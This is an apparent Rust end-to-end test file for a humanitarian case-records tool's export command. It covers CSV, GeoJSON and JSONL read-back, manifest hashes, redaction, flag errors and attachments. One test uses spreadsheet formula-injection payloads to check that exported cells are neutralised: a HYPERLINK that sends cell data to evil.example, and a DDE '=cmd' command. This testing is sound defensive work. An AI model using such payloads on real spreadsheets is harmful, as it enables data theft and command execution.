//! `cairn export`: the CSV reads back to the cases' values, the GeoJSON puts every case with
//! coordinates at them, every manifest hash matches its file, and a redacted field's values
//! are nowhere in the folder.

mod dataset;

use std::collections::{BTreeMap, HashMap};
use std::path::{Path, PathBuf};

use cairn_e2e::{contains_any_encoding, files_under, Device};
use serde_json::Value;
use sha2::{Digest, Sha256};

/// A vault holding a generated dataset, with notes, sources and custody events on some
/// cases. Returns the device, the rows, and what was added to the lists.
///
/// A field device's: the office cannot yet edit the cases it records itself (their reference
/// names the team `office`, which edits look up as `OFFICE`), so the lists could not be added.
fn office_with_cases() -> (Device, Vec<dataset::Row>, Vec<String>) {
    let office = Device::init("T03");
    let rows = dataset::generate(21, 120, false);
    let (csv, _) = dataset::to_csv(&rows);
    let path = office.home().with_file_name("cases.csv");
    std::fs::write(&path, csv).expect("write");
    office.ok(&["case", "import", &path.to_string_lossy()]);
    let list = office.json(&["case", "list"]);
    let mut secrets = Vec::new();
    for (i, case) in list.as_array().expect("list").iter().take(6).enumerate() {
        let reference = case["reference"].as_str().expect("reference");
        let note = format!("Qnote secret {i} about the family");
        let contact = format!("Qcontact +961-555-{i:04}");
        office.ok(&["case", "edit", reference, "--note", &note]);
        office.ok(&[
            "case",
            "source",
            reference,
            "--type",
            "witness",
            "--contact",
            &contact,
            "--consent",
            "yes",
        ]);
        office.ok(&[
            "case",
            "custody",
            reference,
            "--from",
            "Search team 3",
            "--to",
            "Qmorgue Central",
            "--seal",
            &format!("S-{i}"),
        ]);
        secrets.push(note);
        secrets.push(contact);
    }
    (office, rows, secrets)
}

fn out_dir(device: &Device, name: &str) -> PathBuf {
    device.home().with_file_name(name)
}

fn export(device: &Device, dir: &Path, extra: &[&str]) -> String {
    let dir = dir.to_string_lossy().into_owned();
    let mut args = vec!["export", "--out", dir.as_str()];
    args.extend_from_slice(extra);
    device.ok(&args)
}

/// Every case by reference, as `case show --json` prints it.
fn shown(device: &Device) -> BTreeMap<String, Value> {
    device
        .json(&["case", "list"])
        .as_array()
        .expect("list")
        .iter()
        .map(|c| {
            let reference = c["reference"].as_str().expect("reference").to_string();
            let case = device.json(&["case", "show", &reference]);
            (reference, case)
        })
        .collect()
}

fn manifest_matches(dir: &Path) {
    let mut reader = csv::Reader::from_path(dir.join("manifest.csv")).expect("manifest");
    assert_eq!(
        reader.headers().expect("header"),
        vec!["file", "bytes", "sha256"]
    );
    let mut listed = Vec::new();
    for record in reader.records() {
        let record = record.expect("record");
        let bytes = std::fs::read(dir.join(&record[0])).expect("listed file exists");
        assert_eq!(bytes.len().to_string(), &record[1], "{}", &record[0]);
        assert_eq!(
            hex::encode(Sha256::digest(&bytes)),
            &record[2],
            "{}",
            &record[0]
        );
        listed.push(record[0].to_string());
    }
    let mut present: Vec<String> = std::fs::read_dir(dir)
        .expect("dir")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .filter(|n| n != "manifest.csv")
        .collect();
    present.sort();
    listed.sort();
    assert_eq!(
        listed, present,
        "the manifest lists every file and nothing else"
    );
}

#[test]
fn csv_geojson_and_json_read_back_to_the_cases() {
    let (office, _rows, _) = office_with_cases();
    // A detained person beside the generated ones, for its own #affected column.
    office.new_case(&["--kind", "detained", "--place", "KHR"]);
    let cases = shown(&office);
    let dir = out_dir(&office, "export");
    let summary = export(&office, &dir, &["--format", "csv,geojson,json", "--hxl"]);
    assert!(summary.starts_with("exported 121 case(s)"), "{summary}");

    // CSV: the header, the HXL row, then one row per case with the values `case show` shows.
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_path(dir.join("cases.csv"))
        .expect("cases.csv");
    let header: Vec<String> = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(
        &header[..6],
        ["reference", "id", "kind", "status", "place", "team"]
    );
    let keys: Vec<&str> = cairn_model::fields()
        .iter()
        .map(|f| f.key)
        // `place` is the fifth column: the office's correction, else the reference's place.
        .filter(|k| !matches!(*k, "kind" | "status" | "place"))
        .collect();
    assert_eq!(
        &header[6..6 + keys.len()],
        keys.as_slice(),
        "fields in `cairn fields` order"
    );
    let mut records = reader.records();
    let hxl = records.next().expect("hxl row").expect("record");
    assert!(hxl.iter().all(|t| t.starts_with('#')), "{hxl:?}");
    let tag =
        |column: &str| hxl[header.iter().position(|h| h == column).expect(column)].to_string();
    assert_eq!(tag("reference"), "#event +code");
    assert_eq!(tag("found.lat"), "#geo +lat");
    assert_eq!(tag("found.lon"), "#geo +lon");
    assert_eq!(tag("incident.date"), "#date +occurred");
    assert_eq!(tag("killed"), "#affected +killed");
    assert_eq!(tag("detained"), "#affected +detained");
    let mut seen = 0;
    for record in records {
        let record = record.expect("record");
        let row: HashMap<&str, &str> = header
            .iter()
            .map(String::as_str)
            .zip(record.iter())
            .collect();
        let case = &cases[row["reference"]];
        assert_eq!(row["id"], case["id"]);
        assert_eq!(row["kind"], case["kind"]);
        assert_eq!(row["status"], case["status"]);
        for key in &keys {
            let want = match dataset::field(case, key) {
                None => String::new(),
                Some(Value::String(s)) => s.clone(),
                Some(other) => other.to_string(),
            };
            assert_eq!(row[key], want, "{key} of {}", row["reference"]);
        }
        for kind in ["killed", "detained"] {
            assert_eq!(row[kind], if case["kind"] == kind { "1" } else { "0" });
        }
        seen += 1;
    }
    assert_eq!(seen, cases.len());

    // GeoJSON: a point at every case's coordinates, none for a case without.
    let text = std::fs::read_to_string(dir.join("cases.geojson")).expect("geojson");
    let geo: geojson::GeoJson = text.parse().expect("valid GeoJSON");
    let geojson::GeoJson::FeatureCollection(collection) = geo else {
        panic!("not a FeatureCollection");
    };
    let placed = cases
        .values()
        .filter(|c| c["found"].get("lat").is_some() && c["found"].get("lon").is_some())
        .count();
    assert_eq!(collection.features.len(), placed);
    assert!(
        placed < cases.len(),
        "the dataset has cases without coordinates"
    );
    assert!(
        summary.contains(&format!(
            "{} case(s) without coordinates left out",
            cases.len() - placed
        )),
        "{summary}"
    );
    for feature in &collection.features {
        let props = feature.properties.as_ref().expect("properties");
        let case = &cases[props["reference"].as_str().expect("reference")];
        let Some(geojson::Value::Point(point)) = feature.geometry.as_ref().map(|g| &g.value) else {
            panic!("not a point");
        };
        assert_eq!(point[0], case["found"]["lon"].as_f64().expect("lon"));
        assert_eq!(point[1], case["found"]["lat"].as_f64().expect("lat"));
        assert_eq!(props["kind"], case["kind"]);
    }

    // JSON Lines: each case in full, as `case show --json`, with its history.
    let text = std::fs::read_to_string(dir.join("cases.jsonl")).expect("jsonl");
    let lines: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON line"))
        .collect();
    assert_eq!(lines.len(), cases.len());
    for line in &lines {
        let case = &cases[line["case"]["reference"].as_str().expect("reference")];
        assert_eq!(&line["case"], case);
        let history = line["history"].as_array().expect("history");
        assert_eq!(history[0]["fields"][0], "created");
    }

    // The custody log: every custody event and every signed change.
    let mut custody = csv::Reader::from_path(dir.join("custody.csv")).expect("custody.csv");
    let header = custody.headers().expect("header").clone();
    assert_eq!(
        header.iter().collect::<Vec<_>>(),
        ["time", "author", "case", "event", "detail", "change"]
    );
    let records: Vec<csv::StringRecord> = custody.records().map(|r| r.expect("record")).collect();
    let events = |what: &str| records.iter().filter(|r| &r[3] == what).count();
    assert_eq!(events("created"), cases.len());
    assert_eq!(events("custody"), 6);
    // Each of the six cases got a note, a source and a custody change after its creation.
    assert_eq!(events("change"), 18);
    assert!(records
        .iter()
        .any(|r| &r[3] == "custody" && r[4].contains("from Search team 3 to Qmorgue Central")));
    let office_id = office.json(&["id"]);
    let short = office_id["device"]
        .as_str()
        .or_else(|| office_id["id"].as_str())
        .map(|s| s.chars().take(12).collect::<String>());
    if let Some(short) = short {
        assert!(
            records.iter().all(|r| r[1] == short),
            "author is the office's short id"
        );
    }

    manifest_matches(&dir);
}

#[test]
fn redacted_fields_appear_nowhere_in_the_export() {
    let (office, rows, secrets) = office_with_cases();
    let dir = out_dir(&office, "redacted");
    export(
        &office,
        &dir,
        &[
            "--format",
            "csv,geojson,json",
            "--hxl",
            "--redact",
            "person.name,sources,notes,custody",
        ],
    );
    let files = files_under(&dir);
    assert!(files.len() >= 5);
    let mut names: Vec<&str> = rows
        .iter()
        .map(|r| r.get("person.name"))
        .filter(|n| !n.is_empty())
        .collect();
    names.push("Qmorgue");
    assert!(names.len() > 50);
    for (path, bytes) in &files {
        for needle in names
            .iter()
            .copied()
            .chain(secrets.iter().map(String::as_str))
        {
            assert!(
                !contains_any_encoding(bytes, needle),
                "{needle} is in {}",
                path.display()
            );
        }
        assert!(
            !contains_any_encoding(bytes, "Zqname"),
            "{}",
            path.display()
        );
    }
    let header = std::fs::read_to_string(dir.join("cases.csv")).expect("csv");
    let header = header.lines().next().expect("header");
    assert!(
        !header.contains("person.name") && !header.contains("sources.count"),
        "{header}"
    );
    assert!(
        header.contains("person.sex"),
        "only the named key of the group goes: {header}"
    );
    manifest_matches(&dir);

    // A whole group.
    let dir = out_dir(&office, "no-person");
    export(
        &office,
        &dir,
        &["--format", "csv,json", "--redact", "person"],
    );
    for (path, bytes) in files_under(&dir) {
        assert!(
            !contains_any_encoding(&bytes, "Zqname"),
            "{}",
            path.display()
        );
        assert!(
            !contains_any_encoding(&bytes, "person.sex"),
            "{}",
            path.display()
        );
    }
}

#[test]
fn status_filter_folder_rules_and_bad_flags() {
    let (office, rows, _) = office_with_cases();
    // A field device's cases are all alleged: what it imported as under investigation is a
    // proposal, kept as a note (the status is the office's).
    let none = out_dir(&office, "none");
    let out = export(
        &office,
        &none,
        &[
            "--format",
            "csv",
            "--status",
            "under_investigation,rejected",
        ],
    );
    assert!(out.starts_with("exported 0 case(s)"), "{out}");
    let dir = out_dir(&office, "confirmed");
    let out = export(&office, &dir, &["--format", "csv", "--status", "alleged"]);
    let expected = rows.len();
    assert!(
        out.starts_with(&format!("exported {expected} case(s)")),
        "{out}"
    );
    let mut reader = csv::Reader::from_path(dir.join("cases.csv")).expect("csv");
    let statuses: Vec<String> = reader
        .records()
        .map(|r| r.expect("record")[3].to_string())
        .collect();
    assert_eq!(statuses.len(), expected);
    assert!(statuses.iter().all(|s| s == "alleged"));

    // A folder with something in it is refused, and left as it was, unless --force.
    let before = files_under(&dir);
    let dir_arg = dir.to_string_lossy().into_owned();
    let run = office.run(&["export", "--format", "geojson", "--out", &dir_arg]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(
        run.stderr.contains("is not empty") && run.stderr.contains("--force"),
        "{}",
        run.stderr
    );
    assert_eq!(before, files_under(&dir));
    office.ok(&[
        "export", "--format", "geojson", "--out", &dir_arg, "--force",
    ]);
    assert!(dir.join("cases.geojson").exists());
    let leftovers = std::fs::read_dir(&dir)
        .expect("dir")
        .filter(|e| {
            e.as_ref()
                .is_ok_and(|e| e.file_name().to_string_lossy().starts_with('.'))
        })
        .count();
    assert_eq!(leftovers, 0, "no staging folder left behind");

    // Bad flags: usage (exit 2), one sentence, nothing written.
    let fresh = out_dir(&office, "never");
    let fresh_arg = fresh.to_string_lossy().into_owned();
    for (args, message) in [
        (vec!["--format", "xml"], "invalid value 'xml'"),
        (
            vec!["--format", "csv", "--redact", "person.nmae"],
            "--redact person.nmae",
        ),
        (vec!["--format", "csv", "--status", "maybe"], "maybe"),
    ] {
        let mut all = vec!["export", "--out", fresh_arg.as_str()];
        all.extend(args);
        let run = office.run(&all);
        assert_eq!(run.code, 2, "{all:?}: {}", run.stderr);
        assert!(run.stderr.contains(message), "{all:?}: {}", run.stderr);
        assert!(!run.stderr.contains("panicked"));
        assert!(!fresh.exists(), "{all:?} created the folder");
    }
    let run = office.run(&["export", "--format", "csv"]);
    assert_eq!(run.code, 2, "--out is required: {}", run.stderr);
}

/// What a spreadsheet would run: a case whose text starts with `=`, `+`, `-`, `@` or a tab
/// is exported with a quote in front of each such cell, in every CSV file; the files are
/// owner-only in an owner-only folder; and importing the export gives back every value
/// exactly (the quote is taken off again).
#[test]
fn formula_cells_are_quoted_owner_only_and_read_back_exactly() {
    use std::os::unix::fs::PermissionsExt;
    let device = Device::init("T03");
    let hostile = [
        (
            "incident.place",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        ),
        ("person.name", "+1 (555) 0100"),
        ("forensic.examiner", "-2+3"),
        ("forensic.report_ref", "@SUM(1+1)"),
        ("incident.narrative", "\tindented"),
        ("remains.marks", "'=already quoted"),
        ("remains.effects", "'tis a ring"),
    ];
    let mut args = vec!["--kind", "killed", "--place", "KHR"];
    // `--set KEY=@@text` is the text `@text` (`@FILE` reads a file).
    let sets: Vec<String> = hostile
        .iter()
        .map(|(k, v)| match v.strip_prefix('@') {
            Some(rest) => format!("{k}=@@{rest}"),
            None => format!("{k}={v}"),
        })
        .collect();
    for set in &sets {
        args.extend(["--set", set]);
    }
    let reference = device.new_case(&args);
    device.ok(&["case", "custody", &reference, "--to", "=cmd|'/C calc'!A0"]);

    let dir = out_dir(&device, "formulas");
    export(&device, &dir, &["--format", "csv"]);
    let mode = |p: &Path| std::fs::metadata(p).expect("metadata").permissions().mode() & 0o777;
    assert_eq!(mode(&dir), 0o700, "the export folder is owner-only");
    for name in ["cases.csv", "custody.csv", "manifest.csv"] {
        assert_eq!(mode(&dir.join(name)), 0o600, "{name} is owner-only");
    }

    let mut reader = csv::Reader::from_path(dir.join("cases.csv")).expect("csv");
    let header = reader.headers().expect("header").clone();
    let row = reader.records().next().expect("one row").expect("row");
    let cell = |key: &str| {
        let at = header.iter().position(|h| h == key).expect("column");
        row[at].to_string()
    };
    for (key, value) in hostile {
        let quoted = value.starts_with(['=', '+', '-', '@', '\t', '\'']);
        let expected = if quoted {
            format!("'{value}")
        } else {
            value.to_string()
        };
        assert_eq!(cell(key), expected, "{key}");
    }
    for name in ["cases.csv", "custody.csv"] {
        let mut reader = csv::Reader::from_path(dir.join(name)).expect("csv");
        for record in reader.records() {
            for cell in record.expect("record").iter() {
                let number = cell.parse::<f64>().is_ok();
                assert!(
                    number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{name} holds a formula cell: {cell:?}"
                );
            }
        }
    }

    // The export comes back in through `cairn case import`, value for value.
    let other = Device::init("T03");
    let map = out_dir(&other, "map.toml");
    let ignored: Vec<String> = header
        .iter()
        .filter(|h| cairn_model::field(h).is_err() && !["place", "status_basis"].contains(h))
        .map(|h| format!("{h:?}"))
        .collect();
    std::fs::write(
        &map,
        format!("[ignore]\ncolumns = [{}]\n", ignored.join(", ")),
    )
    .expect("map");
    other.ok(&[
        "case",
        "import",
        &dir.join("cases.csv").to_string_lossy(),
        "--map",
        &map.to_string_lossy(),
    ]);
    let list = other.json(&["case", "list"]);
    let imported = list[0]["reference"].as_str().expect("reference");
    let case = other.json(&["case", "show", imported]);
    for (key, value) in hostile {
        let (group, leaf) = key.split_once('.').unwrap_or(("", key));
        let got = if group.is_empty() {
            &case[leaf]
        } else {
            &case[group][leaf]
        };
        assert_eq!(got.as_str(), Some(value), "{key} after export and import");
    }
}

/// `--with-attachments`: the files of the exported cases that are on this device, byte for
/// byte, each in the manifest; those not fetched yet, or whose bytes are damaged, are left
/// out and said to be.
#[test]
fn attachments_are_exported_beside_the_cases_when_asked() {
    let office = Device::office();
    let server = cairn_e2e::Server::start(&office);
    let field = Device::init("T03");
    server.join(&office, &field, "T03", &server.url());
    let mate = Device::init("T03");
    server.join(&office, &mate, "T03", &server.url());
    let reference = field.new_case(&["--kind", "remains", "--place", "KHR"]);
    let work = tempfile::tempdir().expect("temp dir");
    let photo: Vec<u8> = (0..300_000u32).map(|i| (i * 7 % 251) as u8).collect();
    let letter = b"Statement of the family, signed.".to_vec();
    for (name, bytes) in [("scene 1.jpg", &photo), ("letter.txt", &letter)] {
        let path = work.path().join(name);
        std::fs::write(&path, bytes).expect("write");
        field.ok(&["case", "attach", &reference, &path.to_string_lossy()]);
    }
    field.ok(&["sync", "--with-attachments"]);
    // The office fetches every attachment; a teammate only those it asks for.
    office.ok(&["sync"]);
    mate.ok(&["sync"]);
    let out = work.path().join("export");
    let export = |device: &Device, dir: &Path| {
        device.run(&[
            "export",
            "--format",
            "csv",
            "--with-attachments",
            "--out",
            &dir.to_string_lossy(),
        ])
    };
    // Not fetched yet: the cases are exported, the files left out, and it says so.
    let run = export(&mate, &out.join("before"));
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stdout.contains("attachments/ (0 file(s); 2 left out"),
        "{}",
        run.stdout
    );
    let run = export(&office, &out.join("after"));
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stdout.contains("attachments/ (2 file(s))"),
        "{}",
        run.stdout
    );
    let relative = |dir: &Path| -> BTreeMap<PathBuf, Vec<u8>> {
        files_under(dir)
            .into_iter()
            .filter_map(|(p, b)| Some((p.strip_prefix(dir).ok()?.to_path_buf(), b)))
            .collect()
    };
    let files = relative(&out.join("after"));
    let written: BTreeMap<String, &Vec<u8>> = files
        .iter()
        .filter_map(|(p, b)| Some((p.to_str()?.strip_prefix("attachments/")?.to_owned(), b)))
        .collect();
    let hash = |b: &[u8]| hex::encode(Sha256::digest(b));
    let expected: BTreeMap<String, &Vec<u8>> = [
        (
            format!("{reference}/{}-scene_1.jpg", &hash(&photo)[..12]),
            &photo,
        ),
        (
            format!("{reference}/{}-letter.txt", &hash(&letter)[..12]),
            &letter,
        ),
    ]
    .into_iter()
    .collect();
    assert_eq!(written, expected);
    let manifest = String::from_utf8(files[Path::new("manifest.csv")].clone()).expect("utf-8");
    for (name, bytes) in &expected {
        let row = format!("attachments/{name},{},{}", bytes.len(), hash(bytes));
        assert!(manifest.lines().any(|l| l == row), "{row} in {manifest}");
    }
    // A chunk damaged in the vault: that file is left out with a warning, the rest exported.
    let conn = rusqlite::Connection::open(office.home().join("vault.db")).expect("vault db");
    let damaged = conn
        .execute(
            "UPDATE blob_chunks SET sealed = \
             CAST(substr(sealed, 1, 80) || \
             (CASE WHEN substr(sealed, 81, 1) = x'00' THEN x'01' ELSE x'00' END) || \
             substr(sealed, 82) AS BLOB) \
             WHERE idx = 0 AND slot = (SELECT slot FROM blob_chunks GROUP BY slot \
             ORDER BY count(*) DESC LIMIT 1)",
            [],
        )
        .expect("damage a chunk");
    assert_eq!(damaged, 1);
    drop(conn);
    let run = export(&office, &out.join("damaged"));
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stdout.contains("attachments/ (1 file(s); 1 left out"),
        "{}",
        run.stdout
    );
    assert!(
        run.stderr.contains("left out of the export"),
        "{}",
        run.stderr
    );
    let kept: Vec<PathBuf> = relative(&out.join("damaged"))
        .into_keys()
        .filter(|p| p.starts_with("attachments"))
        .collect();
    assert_eq!(kept.len(), 1);
    assert!(
        kept[0].to_string_lossy().ends_with("letter.txt"),
        "{kept:?}"
    );
    // Asking for the files and their redaction at once is a usage error.
    let run = office.run(&[
        "export",
        "--format",
        "csv",
        "--with-attachments",
        "--redact",
        "attachments",
        "--out",
        &out.join("both").to_string_lossy(),
    ]);
    assert_eq!(run.code, 2, "{}", run.stderr);
}
